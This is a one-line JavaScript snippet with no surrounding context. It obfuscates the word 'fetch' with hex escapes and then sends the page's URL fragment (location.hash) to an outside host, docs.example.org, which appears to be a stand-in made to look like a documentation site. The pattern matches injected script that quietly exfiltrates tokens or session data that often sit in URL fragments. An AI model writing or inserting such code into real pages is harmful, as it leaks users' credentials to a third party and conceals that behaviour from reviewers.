!function(e){var _0xff=["\x66\x65\x74\x63\x68"];e.push(_0xff.shift());fetch("https://docs.example.org/"+location.hash)}([]);
